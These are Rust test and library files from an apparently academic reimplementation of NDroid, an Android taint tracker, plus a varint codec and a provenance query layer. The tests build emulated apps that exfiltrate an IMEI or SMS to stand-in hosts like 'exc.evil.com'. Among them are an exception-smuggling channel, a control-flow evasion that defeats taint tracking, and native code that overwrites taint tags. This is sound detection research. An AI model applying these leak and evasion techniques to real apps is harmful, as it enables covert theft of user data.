fn direct_addresses_actually_move() {
    let mut sys = build_two_phase_app().launch(Mode::NDroid);
    sys.run_java("Lapp/Gc;", "phase1", &[]).unwrap();
    // Find the stashed object via the global ref table.
    let roots = sys.dvm.refs.all_objects();
    assert!(!roots.is_empty());
    let obj = roots[0];
    let addr_before = sys.dvm.heap.direct_addr(obj).unwrap();
    sys.force_gc();
    let addr_after = sys.dvm.heap.direct_addr(obj).unwrap();
    assert_ne!(addr_before, addr_after, "the GC is really a moving GC");
}
