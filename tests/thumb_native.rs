//! Thumb-mode native code under the instruction tracer: the paper's
//! tracer handles "101 ARM and 55 Thumb instructions" through one
//! propagation table; here genuine T16 machine code moves tainted data
//! through registers and memory and the tracer follows it.

use ndroid::arm::asm::ThumbAssembler;
use ndroid::arm::thumb::enc;
use ndroid::arm::{Cond, Reg};
use ndroid::core::{Mode, NDroidSystem};
use ndroid::dvm::framework::install_framework;
use ndroid::dvm::{Program, Taint};
use ndroid::emu::layout::NATIVE_CODE_BASE;

const BUF: u32 = 0x2000_0000;

fn boot() -> NDroidSystem {
    let mut p = Program::new();
    install_framework(&mut p);
    NDroidSystem::new(p, Mode::NDroid)
}

#[test]
fn thumb_register_moves_propagate_taint() {
    // mov r2, r0 ; adds r2, #1 ; str r2, [r1, #0] ; bx lr
    let mut asm = ThumbAssembler::new(NATIVE_CODE_BASE);
    asm.raw(enc::mov_hi(Reg::R2, Reg::R0));
    asm.raw(enc::add_imm8(Reg::R2, 1));
    asm.raw(enc::str_imm(Reg::R2, Reg::R1, 0));
    asm.raw(enc::bx(Reg::LR));
    let code = asm.assemble().unwrap();

    let mut sys = boot();
    sys.load_native(&code, "libthumb.so");
    // Pre-taint the argument register and drive the emulator directly
    // with entry|1 to select Thumb state (the SourcePolicy path is what
    // sets shadow registers on real JNI calls).
    sys.shadow.regs[0] = Taint::IMEI;
    let (ret, _) = sys.run_native(NATIVE_CODE_BASE | 1, &[41, BUF]).unwrap();
    assert_eq!(ret, 41, "r0 unchanged by the routine");
    assert_eq!(
        sys.shadow.mem.range_taint(BUF, 4),
        Taint::IMEI,
        "taint followed r0 -> r2 -> memory through Thumb instructions"
    );
}

#[test]
fn thumb_loop_executes_and_taints_accumulator() {
    // r0 = tainted seed, r1 = buffer.
    // movs r3, #8 ; movs r2, #0 ; loop: adds r2, r2, r0? (add_reg)
    let mut asm = ThumbAssembler::new(NATIVE_CODE_BASE);
    asm.raw(enc::mov_imm(Reg::R3, 8));
    asm.raw(enc::mov_imm(Reg::R2, 0));
    let top = asm.label();
    asm.bind(top).unwrap();
    asm.raw(enc::add_reg(Reg::R2, Reg::R2, Reg::R0));
    asm.raw(enc::sub_imm8(Reg::R3, 1));
    asm.b_cond(Cond::Ne, top);
    asm.raw(enc::str_imm(Reg::R2, Reg::R1, 0));
    asm.raw(enc::bx(Reg::LR));
    let code = asm.assemble().unwrap();

    let mut sys = boot();
    sys.load_native(&code, "libthumb.so");
    sys.shadow.regs[0] = Taint::SMS;
    let (_, _) = sys.run_native(NATIVE_CODE_BASE | 1, &[5, BUF]).unwrap();
    assert_eq!(sys.mem.read_u32(BUF), 40, "5 * 8 accumulated");
    assert_eq!(sys.shadow.mem.range_taint(BUF, 4), Taint::SMS);
    assert!(sys.native_insns() > 8 * 3, "the loop really ran");
}

#[test]
fn thumb_mov_imm_clears_taint() {
    // movs r0, #7 — a constant overwrite must clear the taint.
    let mut asm = ThumbAssembler::new(NATIVE_CODE_BASE);
    asm.raw(enc::mov_imm(Reg::R0, 7));
    asm.raw(enc::str_imm(Reg::R0, Reg::R1, 0));
    asm.raw(enc::bx(Reg::LR));
    let code = asm.assemble().unwrap();

    let mut sys = boot();
    sys.load_native(&code, "libthumb.so");
    sys.shadow.regs[0] = Taint::IMEI;
    sys.run_native(NATIVE_CODE_BASE | 1, &[99, BUF]).unwrap();
    assert_eq!(sys.mem.read_u32(BUF), 7);
    assert_eq!(
        sys.shadow.mem.range_taint(BUF, 4),
        Taint::CLEAR,
        "mov Rd, #imm clears (Table V)"
    );
}
