//! The exception hook group (§V-B): "Native codes can communicate with
//! Java codes through throwing an exception carrying sensitive
//! information. … NDroid … add[s] the taint of the third parameter of
//! ThrowNew to the string object in the new exception object."
//!
//! The app: Java passes the IMEI to native code; the native code
//! smuggles it back by `ThrowNew`ing an exception whose *message* is
//! the secret; Java catches, extracts `getMessage()`, and sends it.

use ndroid::apps::AppBuilder;
use ndroid::arm::reg::RegList;
use ndroid::arm::Reg;
use ndroid::core::Mode;
use ndroid::dvm::bytecode::DexInsn;
use ndroid::dvm::{InvokeKind, MethodDef, MethodKind, Taint};
use ndroid::jni::dvm_addr;

fn exception_smuggler() -> ndroid::apps::App {
    let mut b = AppBuilder::new(
        "exception-smuggler",
        "ThrowNew carries the secret in the exception message",
    );
    let c = b.class("Lapp/Exc;");
    let exc_class = b.data_cstr("Ljava/lang/RuntimeException;");

    // void smuggle(String secret):
    //   chars = GetStringUTFChars(secret)
    //   ThrowNew(RuntimeException, chars)
    let entry = b.asm.label();
    b.asm.bind(entry).unwrap();
    b.asm.push(RegList::of(&[Reg::R4, Reg::LR]));
    b.asm.mov_imm(Reg::R1, 0).unwrap();
    b.asm.call_abs(dvm_addr("GetStringUTFChars"));
    b.asm.mov(Reg::R4, Reg::R0);
    b.asm.ldr_const(Reg::R0, exc_class);
    // FindClass wants the class handle for ThrowNew's first arg.
    b.asm.call_abs(dvm_addr("FindClass"));
    b.asm.mov(Reg::R1, Reg::R4);
    b.asm.call_abs(dvm_addr("ThrowNew"));
    b.asm.mov_imm(Reg::R0, 0).unwrap();
    b.asm.pop(RegList::of(&[Reg::R4, Reg::PC]));
    let smuggle = b.native_method(c, "smuggle", "VL", true, entry);

    let imei = b
        .program
        .find_method_by_name("Landroid/telephony/TelephonyManager;", "getDeviceId")
        .unwrap();
    let get_msg = b
        .program
        .find_method_by_name("Ljava/lang/Throwable;", "getMessage")
        .unwrap();
    let send = b
        .program
        .find_method_by_name("Ljava/net/Socket;", "send")
        .unwrap();
    let dest = b.string_const("exc.evil.com");
    b.method(
        c,
        MethodDef::new(
            "main",
            "V",
            MethodKind::Bytecode(vec![
                // 0: secret = getDeviceId()
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: imei,
                    args: vec![],
                },
                DexInsn::MoveResult { dst: 0 },
                // 2: smuggle(secret) — throws
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: smuggle,
                    args: vec![0],
                },
                DexInsn::ReturnVoid,
                // 4: catch handler
                DexInsn::MoveException { dst: 1 },
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: get_msg,
                    args: vec![1],
                },
                DexInsn::MoveResult { dst: 1 },
                DexInsn::ConstString { dst: 2, index: dest },
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: send,
                    args: vec![2, 1],
                },
                DexInsn::ReturnVoid,
            ]),
        )
        .with_registers(3)
        .with_catch_all(4),
    );
    b.finish("Lapp/Exc;", "main").unwrap()
}

#[test]
fn ndroid_tracks_taint_through_thrown_exception() {
    let sys = exception_smuggler().run(Mode::NDroid).unwrap();
    let leaks = sys.leaks();
    assert_eq!(leaks.len(), 1, "exception-borne secret caught at the sink");
    assert!(leaks[0].taint.contains(Taint::IMEI));
    assert_eq!(leaks[0].dest, "exc.evil.com");
    assert_eq!(leaks[0].data, "000000000000000", "the IMEI itself");
    // The ThrowNew hook logged the taint transfer.
    assert!(sys.trace.contains("ThrowNew Begin"));
    assert!(sys.trace.contains("to exception message string"));
}

#[test]
fn taintdroid_misses_the_exception_channel() {
    let sys = exception_smuggler().run(Mode::TaintDroid).unwrap();
    assert!(sys.leaks().is_empty());
    // The secret still reached the network.
    assert!(sys
        .all_sink_events()
        .iter()
        .any(|e| e.data == "000000000000000"));
}

#[test]
fn exception_caught_by_java_continues_execution() {
    // The app terminates normally (the catch handler ran, no uncaught
    // exception surfaces).
    let result = exception_smuggler().run(Mode::NDroid);
    assert!(result.is_ok());
}
