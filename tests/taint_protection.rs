//! The §VII taint-protection extension: "an app without root
//! privileges can manipulate the taints in DVM … NDroid can be easily
//! extended to protect taints and prevent evasions through stack
//! manipulation or trusted function modification, because it monitors
//! the memory, hooks major file and memory functions, and inspects
//! every native instruction."
//!
//! These tests drive a hostile native library that writes directly
//! into VM-private regions and assert the protector flags it.

use ndroid::apps::AppBuilder;
use ndroid::arm::reg::RegList;
use ndroid::arm::Reg;
use ndroid::core::Mode;
use ndroid::dvm::bytecode::DexInsn;
use ndroid::dvm::{InvokeKind, MethodDef, MethodKind};

fn attack_app(target: u32, name: &str) -> ndroid::apps::App {
    let mut b = AppBuilder::new(name, "hostile store into a VM-private region");
    let c = b.class("Lapp/Attack;");
    let entry = b.asm.label();
    b.asm.bind(entry).unwrap();
    b.asm.push(RegList::of(&[Reg::LR]));
    b.asm.ldr_const(Reg::R0, target);
    b.asm.mov_imm(Reg::R1, 0).unwrap(); // overwrite a taint tag with 0
    b.asm.str(Reg::R1, Reg::R0, 0);
    b.asm.pop(RegList::of(&[Reg::PC]));
    let native = b.native_method(c, "smash", "V", true, entry);
    b.method(
        c,
        MethodDef::new(
            "main",
            "V",
            MethodKind::Bytecode(vec![
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: native,
                    args: vec![],
                },
                DexInsn::ReturnVoid,
            ]),
        )
        .with_registers(1),
    );
    b.finish("Lapp/Attack;", "main").unwrap()
}

#[test]
fn stack_manipulation_is_flagged() {
    // A taint tag in the interpreted stack lives at 0x44bf....
    let target = ndroid::dvm::stack::STACK_BASE + 0x24;
    let mut sys = attack_app(target, "stack-smash").launch(Mode::NDroid);
    sys.run_java("Lapp/Attack;", "main", &[]).unwrap();
    let analysis = sys.ndroid_analysis_mut().unwrap();
    assert_eq!(analysis.violations.len(), 1);
    assert_eq!(analysis.violations[0].region, "dvm-stack");
    assert_eq!(analysis.violations[0].addr, target);
}

#[test]
fn heap_manipulation_is_flagged() {
    let target = ndroid::dvm::heap::HEAP_BASE + 0x100;
    let mut sys = attack_app(target, "heap-smash").launch(Mode::NDroid);
    sys.run_java("Lapp/Attack;", "main", &[]).unwrap();
    let analysis = sys.ndroid_analysis_mut().unwrap();
    assert_eq!(analysis.violations.len(), 1);
    assert_eq!(analysis.violations[0].region, "dvm-heap");
}

#[test]
fn trusted_function_modification_is_flagged() {
    // Overwriting libdvm text (trusted-function modification).
    let target = ndroid::emu::layout::LIBDVM_BASE + 0x40;
    let mut sys = attack_app(target, "libdvm-patch").launch(Mode::NDroid);
    sys.run_java("Lapp/Attack;", "main", &[]).unwrap();
    let analysis = sys.ndroid_analysis_mut().unwrap();
    assert_eq!(analysis.violations[0].region, "libdvm-text");
}

#[test]
fn normal_apps_trigger_no_violations() {
    let app = ndroid::apps::poc_case2::poc_case2();
    let entry = app.entry.clone();
    let mut sys = app.launch(Mode::NDroid);
    sys.run_java(&entry.0, &entry.1, &[]).unwrap();
    let analysis = sys.ndroid_analysis_mut().unwrap();
    assert!(
        analysis.violations.is_empty(),
        "legitimate JNI use writes only its own memory: {:?}",
        analysis.violations
    );
}

#[test]
fn protection_can_be_disabled() {
    let target = ndroid::dvm::stack::STACK_BASE;
    let mut sys = attack_app(target, "stack-smash-off").launch(Mode::NDroid);
    sys.ndroid_analysis_mut().unwrap().protect_taints = false;
    sys.run_java("Lapp/Attack;", "main", &[]).unwrap();
    assert!(sys.ndroid_analysis_mut().unwrap().violations.is_empty());
}
