//! Cross-crate integration tests: whole apps through the whole stack
//! (bytecode interpreter → JNI bridge → ARM emulator → libc models →
//! kernel sinks) under every analysis configuration.

use ndroid::apps::{all_case_apps, benign, ephone, poc_case2, poc_case3, qq_phonebook};
use ndroid::core::Mode;
use ndroid::dvm::{SinkContext, Taint};

#[test]
fn detection_matrix_matches_table1() {
    // TaintDroid: only case 1. NDroid: all five.
    for (case, app, expected_taint) in all_case_apps() {
        let td = !app.run(Mode::TaintDroid).unwrap().leaks().is_empty();
        assert_eq!(td, case == "case1", "taintdroid on {case}");
        let _ = expected_taint;
    }
    for (case, app, expected_taint) in all_case_apps() {
        let sys = app.run(Mode::NDroid).unwrap();
        let leaks = sys.leaks();
        assert_eq!(leaks.len(), 1, "ndroid on {case}");
        assert!(
            leaks[0].taint.contains(expected_taint),
            "{case}: taint {} should contain {expected_taint}",
            leaks[0].taint
        );
    }
}

#[test]
fn droidscope_like_matches_taintdroid_detection() {
    // "no new information flows than TaintDroid were reported in
    // [DroidScope]" — but our DroidScope-like config *does* track
    // native flows (it shares NDroid's propagation), so the paper's
    // detection claim is about the published tool, not the technique.
    // What must hold here: the whole-system tracer detects at least
    // what TaintDroid does, and the run is far slower (checked in the
    // cfbench crate).
    for (case, app, _) in all_case_apps() {
        let sys = app.run(Mode::DroidScopeLike).unwrap();
        if case == "case1" {
            assert!(!sys.leaks().is_empty());
        }
    }
}

#[test]
fn vanilla_mode_runs_everything_with_no_taint() {
    for (case, app, _) in all_case_apps() {
        let sys = app.run(Mode::Vanilla).unwrap();
        assert!(sys.leaks().is_empty(), "{case}");
        assert!(
            !sys.all_sink_events().is_empty(),
            "{case}: the data still flowed"
        );
    }
}

#[test]
fn benign_apps_clean_under_all_modes() {
    for mode in [Mode::TaintDroid, Mode::NDroid, Mode::DroidScopeLike] {
        for app in [
            benign::physics_game(),
            benign::audio_license_check(),
            benign::dsp_filter(),
        ] {
            let name = app.name.clone();
            let sys = app.run(mode).unwrap();
            assert!(sys.leaks().is_empty(), "{name} under {mode}");
        }
    }
}

#[test]
fn named_replicas_reproduce_figure_flows() {
    // Fig. 6: QQPhoneBook — 0x202 to sync.3g.qq.com.
    let sys = qq_phonebook::qq_phonebook().run(Mode::NDroid).unwrap();
    let leaks = sys.leaks();
    assert_eq!(leaks[0].taint.0, 0x202);
    assert_eq!(leaks[0].dest, "sync.3g.qq.com");

    // Fig. 7: ePhone — 0x2 via sendto to softphone.comwave.net.
    let sys = ephone::ephone().run(Mode::NDroid).unwrap();
    let leaks = sys.leaks();
    assert_eq!(leaks[0].taint.0, 0x2);
    assert_eq!(leaks[0].sink, "sendto");

    // Fig. 8: PoC case 2 — fprintf to /sdcard/CONTACTS.
    let sys = poc_case2::poc_case2().run(Mode::NDroid).unwrap();
    let leaks = sys.leaks();
    assert_eq!(leaks[0].context, SinkContext::Native);
    assert_eq!(leaks[0].dest, "/sdcard/CONTACTS");

    // Fig. 9: PoC case 3 — callback into Java, caught at Socket.send.
    let sys = poc_case3::poc_case3().run(Mode::NDroid).unwrap();
    let leaks = sys.leaks();
    assert_eq!(leaks[0].context, SinkContext::Java);
    assert!(leaks[0].taint.contains(Taint::PHONE_NUMBER));
}

#[test]
fn os_view_reconstructor_sees_loaded_libraries() {
    let sys = ephone::ephone().run(Mode::NDroid).unwrap();
    let procs = sys.os_view();
    let p = procs.iter().find(|p| p.comm == "app_process").unwrap();
    assert!(p.module_base("libasip.so").is_some(), "third-party lib");
    assert!(p.module_base("libdvm.so").is_some());
    assert!(p.module_base("libc.so").is_some());
    // Every leak-producing instruction was inside the mapped library.
    let lib = p.module_base("libasip.so").unwrap();
    assert!(ndroid::emu::layout::in_native_code(lib));
}

#[test]
fn trace_log_structure_covers_all_hook_groups() {
    let sys = poc_case3::poc_case3().run(Mode::NDroid).unwrap();
    let log = sys.trace.render();
    // JNI entry group (dvmCallJNIMethod).
    assert!(log.contains("dvmCallJNIMethod"));
    // Object creation group (NewStringUTF → dvmCreateStringFromCstr).
    assert!(log.contains("dvmCreateStringFromCstr"));
    // JNI exit group (Call*Method → dvmCallMethod* → dvmInterpret).
    assert!(log.contains("dvmInterpret Begin"));
    // Source policies.
    assert!(log.contains("SourceHandler"));
}

#[test]
fn analysis_stats_are_populated() {
    let sys = poc_case2::poc_case2().run(Mode::NDroid).unwrap();
    let stats = sys.ndroid_stats().unwrap();
    assert!(stats.insns_traced > 10);
    assert!(stats.branch_events > 5);
    assert!(stats.jni_entries >= 1);
    assert!(stats.source_policies >= 1);
    assert!(sys.native_insns() > 30, "real ARM instructions ran");
}

#[test]
fn repeated_runs_are_deterministic() {
    let a = poc_case2::poc_case2().run(Mode::NDroid).unwrap();
    let b = poc_case2::poc_case2().run(Mode::NDroid).unwrap();
    assert_eq!(a.leaks().len(), b.leaks().len());
    assert_eq!(a.native_insns(), b.native_insns());
    assert_eq!(a.bytecodes(), b.bytecodes());
    assert_eq!(a.trace.len(), b.trace.len());
}

#[test]
fn loaded_library_can_be_disassembled() {
    let app = ndroid::apps::ephone::ephone();
    let sys = app.launch(ndroid::core::Mode::NDroid);
    let lines = sys.disassemble_module("libasip.so").expect("module mapped");
    assert!(lines.len() > 20, "whole library disassembled");
    let text: String = lines.iter().map(|l| l.to_string() + "\n").collect();
    assert!(text.contains("blx r12"), "the JNI/libc call idiom:\n{}",
        &text[..600.min(text.len())]);
    assert!(sys.disassemble_module("libmissing.so").is_none());
}
