//! Faithful limitations (§VII of the paper): "Similar to TaintDroid
//! and Droidscope, NDroid does not track control flows. Therefore, it
//! could be evaded by apps that use the same control flow based
//! techniques for circumventing those systems."
//!
//! These tests *demonstrate* the documented limitation — they assert
//! that the evasion works, exactly as the paper concedes it would.

use ndroid::apps::AppBuilder;
use ndroid::arm::reg::RegList;
use ndroid::arm::{Cond, Reg};
use ndroid::core::Mode;
use ndroid::dvm::bytecode::DexInsn;
use ndroid::dvm::{InvokeKind, MethodDef, MethodKind};
use ndroid::jni::dvm_addr;
use ndroid::libc::libc_addr;

/// Native code copies a secret byte-by-byte through a **control-flow
/// channel**: for each bit, it branches on the tainted value and writes
/// a constant 0 or 1 — no data dependency ever reaches the output.
fn control_flow_evasion_app() -> ndroid::apps::App {
    let mut b = AppBuilder::new("cf-evasion", "implicit-flow copy defeats explicit tracking");
    let c = b.class("Lapp/Evade;");
    let out_buf = b.data_buffer(64);
    let dest = b.data_cstr("evasion.evil.com");

    // void exfil(String s): for first byte of s, rebuild it bit by bit
    // via compare-and-branch, then send the reconstruction.
    let entry = b.asm.label();
    b.asm.bind(entry).unwrap();
    b.asm
        .push(RegList::of(&[Reg::R4, Reg::R5, Reg::R6, Reg::R7, Reg::LR]));
    b.asm.mov_imm(Reg::R1, 0).unwrap();
    b.asm.call_abs(dvm_addr("GetStringUTFChars"));
    b.asm.ldrb(Reg::R4, Reg::R0, 0); // tainted first byte
    // r5 = reconstructed value (clean), r6 = bit index
    b.asm.mov_imm(Reg::R5, 0).unwrap();
    b.asm.mov_imm(Reg::R6, 0).unwrap();
    let bit_loop = b.asm.here_label();
    // r7 = (r4 >> r6) & 1 — still tainted …
    b.asm.emit(ndroid::arm::Instr::Dp {
        cond: Cond::Al,
        op: ndroid::arm::DpOp::Mov,
        s: false,
        rd: Reg::R7,
        rn: Reg::R0,
        op2: ndroid::arm::Op2::RegShiftReg {
            rm: Reg::R4,
            kind: ndroid::arm::ShiftKind::Lsr,
            rs: Reg::R6,
        },
    });
    b.asm.and_imm(Reg::R7, Reg::R7, 1).unwrap();
    // … but the branch *condition* is where the information escapes:
    b.asm.cmp_imm(Reg::R7, 0).unwrap();
    let bit_clear = b.asm.label();
    b.asm.b_cond(Cond::Eq, bit_clear);
    // bit set: r5 |= (1 << r6) — built from CONSTANTS only.
    b.asm.mov_imm(Reg::R7, 1).unwrap();
    b.asm.emit(ndroid::arm::Instr::Dp {
        cond: Cond::Al,
        op: ndroid::arm::DpOp::Mov,
        s: false,
        rd: Reg::R7,
        rn: Reg::R0,
        op2: ndroid::arm::Op2::RegShiftReg {
            rm: Reg::R7,
            kind: ndroid::arm::ShiftKind::Lsl,
            rs: Reg::R6,
        },
    });
    b.asm.orr(Reg::R5, Reg::R5, Reg::R7);
    b.asm.bind(bit_clear).unwrap();
    b.asm.add_imm(Reg::R6, Reg::R6, 1).unwrap();
    b.asm.cmp_imm(Reg::R6, 8).unwrap();
    b.asm.b_cond(Cond::Ne, bit_loop);
    // Store the laundered byte and send it.
    b.asm.ldr_const(Reg::R1, out_buf);
    b.asm.strb(Reg::R5, Reg::R1, 0);
    b.asm.call_abs(libc_addr("socket"));
    b.asm.mov(Reg::R7, Reg::R0);
    b.asm.ldr_const(Reg::R1, dest);
    b.asm.call_abs(libc_addr("connect"));
    b.asm.mov(Reg::R0, Reg::R7);
    b.asm.ldr_const(Reg::R1, out_buf);
    b.asm.mov_imm(Reg::R2, 1).unwrap();
    b.asm.mov_imm(Reg::R3, 0).unwrap();
    b.asm.call_abs(libc_addr("send"));
    b.asm
        .pop(RegList::of(&[Reg::R4, Reg::R5, Reg::R6, Reg::R7, Reg::PC]));
    let native = b.native_method(c, "exfil", "VL", true, entry);

    let sms = b
        .program
        .find_method_by_name("Landroid/provider/SmsProvider;", "queryLastMessage")
        .unwrap();
    b.method(
        c,
        MethodDef::new(
            "main",
            "V",
            MethodKind::Bytecode(vec![
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: sms,
                    args: vec![],
                },
                DexInsn::MoveResult { dst: 0 },
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: native,
                    args: vec![0],
                },
                DexInsn::ReturnVoid,
            ]),
        )
        .with_registers(1),
    );
    b.finish("Lapp/Evade;", "main").unwrap()
}

#[test]
fn control_flow_evasion_defeats_explicit_tracking() {
    let sys = control_flow_evasion_app().run(Mode::NDroid).unwrap();
    // The first byte of the SMS really went out …
    assert_eq!(sys.kernel.network_log.len(), 1);
    assert_eq!(sys.kernel.network_log[0].1, vec![b's'], "'secret…'[0]");
    // … but no explicit dataflow reaches the sink: the evasion works,
    // exactly as §VII concedes for all three systems.
    assert!(
        sys.leaks().is_empty(),
        "no control-flow taint — the documented limitation"
    );
}

#[test]
fn fuel_bounds_pathological_guests() {
    // "NDroid executes one path at a time" — and our reproduction adds
    // an instruction budget so runaway guests terminate analysis
    // instead of hanging it.
    let mut b = AppBuilder::new("spin", "infinite native loop");
    let c = b.class("Lapp/Spin;");
    let entry = b.asm.label();
    b.asm.bind(entry).unwrap();
    let top = b.asm.here_label();
    b.asm.b(top);
    b.asm.bx(Reg::LR);
    let native = b.native_method(c, "spin", "V", true, entry);
    b.method(
        c,
        MethodDef::new(
            "main",
            "V",
            MethodKind::Bytecode(vec![
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: native,
                    args: vec![],
                },
                DexInsn::ReturnVoid,
            ]),
        )
        .with_registers(1),
    );
    let app = b.finish("Lapp/Spin;", "main").unwrap();
    let mut sys = app.launch(Mode::NDroid);
    sys.budget = 50_000;
    let err = sys.run_java("Lapp/Spin;", "main", &[]).unwrap_err();
    assert!(err.to_string().contains("budget") || err.to_string().contains("native"));
}
