//! LEB128 variable-length integers and zigzag signed mapping — the
//! wire primitives of the sealed-segment encoding ([`crate::store`]).
//!
//! A [`crate::ProvEvent`] in memory is dominated by `String` headers
//! and enum padding (56–64 bytes); on the wire the same event is a tag
//! byte, a varint label, and one or two varint string-table indices.
//! Small values — interned-string indices, label masks with few bits,
//! pc deltas between consecutive basic blocks — take one or two bytes,
//! which is what buys the ≥60% size reduction the tiered store is for.

/// Appends `v` to `out` as unsigned LEB128 (7 bits per byte, high bit
/// = continuation). At most 10 bytes for a `u64`.
pub fn write_u64(out: &mut Vec<u8>, mut v: u64) {
    loop {
        let byte = (v & 0x7f) as u8;
        v >>= 7;
        if v == 0 {
            out.push(byte);
            return;
        }
        out.push(byte | 0x80);
    }
}

/// Reads an unsigned LEB128 integer from `buf` starting at `*pos`,
/// advancing `*pos` past it. Returns `None` on truncated input or an
/// encoding longer than a `u64` (corrupt segment — the decoder
/// surfaces this as a decode failure, never a panic).
pub fn read_u64(buf: &[u8], pos: &mut usize) -> Option<u64> {
    let mut v: u64 = 0;
    let mut shift = 0u32;
    loop {
        let byte = *buf.get(*pos)?;
        *pos += 1;
        if shift >= 64 {
            return None;
        }
        v |= u64::from(byte & 0x7f) << shift;
        if byte & 0x80 == 0 {
            return Some(v);
        }
        shift += 7;
    }
}

/// Maps a signed value to unsigned zigzag order (0, -1, 1, -2, …), so
/// small-magnitude deltas of either sign encode in one LEB128 byte.
pub fn zigzag(v: i64) -> u64 {
    ((v << 1) ^ (v >> 63)) as u64
}

/// Inverse of [`zigzag`].
pub fn unzigzag(v: u64) -> i64 {
    ((v >> 1) as i64) ^ -((v & 1) as i64)
}

/// Appends `v` zigzag-mapped as LEB128.
pub fn write_i64(out: &mut Vec<u8>, v: i64) {
    write_u64(out, zigzag(v));
}

/// Reads a zigzag LEB128 signed integer (see [`read_u64`] for the
/// failure contract).
pub fn read_i64(buf: &[u8], pos: &mut usize) -> Option<i64> {
    read_u64(buf, pos).map(unzigzag)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn u64_roundtrip_pinned_values() {
        for v in [
            0u64,
            1,
            0x7f,
            0x80,
            0x3fff,
            0x4000,
            u32::MAX as u64,
            u64::MAX,
        ] {
            let mut buf = Vec::new();
            write_u64(&mut buf, v);
            let mut pos = 0;
            assert_eq!(read_u64(&buf, &mut pos), Some(v));
            assert_eq!(pos, buf.len());
        }
    }

    #[test]
    fn single_byte_for_small_values() {
        let mut buf = Vec::new();
        write_u64(&mut buf, 0x7f);
        assert_eq!(buf.len(), 1);
        buf.clear();
        write_u64(&mut buf, 0x80);
        assert_eq!(buf.len(), 2);
    }

    #[test]
    fn zigzag_roundtrip_and_order() {
        for v in [0i64, -1, 1, -2, 2, i64::MIN, i64::MAX, -4096, 4096] {
            assert_eq!(unzigzag(zigzag(v)), v);
        }
        // Small magnitudes map to small codes regardless of sign.
        assert!(zigzag(-1) < 0x80);
        assert!(zigzag(1) < 0x80);
        let mut buf = Vec::new();
        write_i64(&mut buf, -63);
        assert_eq!(buf.len(), 1);
        let mut pos = 0;
        assert_eq!(read_i64(&buf, &mut pos), Some(-63));
    }

    #[test]
    fn truncated_and_overlong_input_is_an_error_not_a_panic() {
        // Truncated: continuation bit set with nothing following.
        let mut pos = 0;
        assert_eq!(read_u64(&[0x80], &mut pos), None);
        // Overlong: more than 10 continuation bytes.
        let overlong = [0xffu8; 11];
        let mut pos = 0;
        assert_eq!(read_u64(&overlong, &mut pos), None);
        // Empty.
        let mut pos = 0;
        assert_eq!(read_u64(&[], &mut pos), None);
    }
}
