//! The fleet-scale query layer over frozen provenance stores.
//!
//! A [`ProvQuery`] filters one run's [`ProvStore`] — per label bits,
//! per [`EventKind`], per source-API / sink name, per sequence range —
//! decoding only the sealed segments whose headers could match.
//! Segment skipping follows the bloom convention documented on
//! [`SealedSegment`]: a query may decode a segment that yields no hit
//! (label unions and kind masks are precise, name blooms are not), but
//! it never skips a segment holding a matching event. [`QueryStats`]
//! reports exactly how much decoding a query cost, and the rendered
//! form of a [`QueryResult`] is deterministic — `exp_prov_query` diffs
//! it against a golden transcript in CI.
//!
//! Cross-run merging (`BatchReport::query`) lives in `ndroid-core`,
//! which owns the batch types; it concatenates per-job results in
//! submission order so the merged rendering is byte-identical at any
//! worker count.

use crate::store::{EventKind, ProvStore, SealedSegment};
use crate::{FlowGraph, ProvEvent};

/// A provenance query: every set filter must pass (conjunction).
///
/// Note the name filters imply a kind: `source(api)` matches only
/// [`ProvEvent::Source`] events and `sink(name)` only
/// [`ProvEvent::Sink`] events, so setting both yields no hits by
/// construction.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ProvQuery {
    label: Option<u32>,
    kinds: Option<u8>,
    source_api: Option<String>,
    sink_name: Option<String>,
    seq: Option<(u64, u64)>,
}

impl ProvQuery {
    /// A query matching every event.
    pub fn new() -> ProvQuery {
        ProvQuery::default()
    }

    /// Keep events whose label intersects `bits`.
    pub fn label(mut self, bits: u32) -> ProvQuery {
        self.label = Some(bits);
        self
    }

    /// Keep events of `kind` (repeatable — kinds accumulate as a
    /// disjunction).
    pub fn kind(mut self, kind: EventKind) -> ProvQuery {
        *self.kinds.get_or_insert(0) |= kind.bit();
        self
    }

    /// Keep only [`ProvEvent::Source`] events introduced by `api`.
    pub fn source(mut self, api: &str) -> ProvQuery {
        self.source_api = Some(api.to_string());
        self
    }

    /// Keep only [`ProvEvent::Sink`] events through sink `name`.
    pub fn sink(mut self, name: &str) -> ProvQuery {
        self.sink_name = Some(name.to_string());
        self
    }

    /// Keep events with sequence number in `[start, end)`.
    pub fn seq_range(mut self, start: u64, end: u64) -> ProvQuery {
        self.seq = Some((start, end));
        self
    }

    /// Whether a single event (at sequence number `seq`) matches.
    pub fn matches(&self, seq: u64, ev: &ProvEvent) -> bool {
        if let Some((start, end)) = self.seq {
            if seq < start || seq >= end {
                return false;
            }
        }
        if let Some(bits) = self.label {
            if ev.label() & bits == 0 {
                return false;
            }
        }
        if let Some(kinds) = self.kinds {
            if EventKind::of(ev).bit() & kinds == 0 {
                return false;
            }
        }
        if let Some(api) = &self.source_api {
            match ev {
                ProvEvent::Source { api: a, .. } if a == api => {}
                _ => return false,
            }
        }
        if let Some(name) = &self.sink_name {
            match ev {
                ProvEvent::Sink { sink, .. } if sink == name => {}
                _ => return false,
            }
        }
        true
    }

    /// Whether a sealed segment could hold a match — the skip test.
    /// Conservative per the bloom convention: `false` is definitive
    /// (the segment holds no match), `true` only means "must decode".
    pub fn segment_may_match(&self, seg: &SealedSegment) -> bool {
        if let Some((start, end)) = self.seq {
            if seg.end_seq() <= start || seg.first_seq() >= end {
                return false;
            }
        }
        if let Some(bits) = self.label {
            if seg.label_union() & bits == 0 {
                return false;
            }
        }
        let mut kinds = self.kinds.unwrap_or(u8::MAX);
        // A name filter restricts the kind even when no kind filter
        // was set explicitly.
        if self.source_api.is_some() {
            kinds &= EventKind::Source.bit();
        }
        if self.sink_name.is_some() {
            kinds &= EventKind::Sink.bit();
        }
        if seg.kind_mask() & kinds == 0 {
            return false;
        }
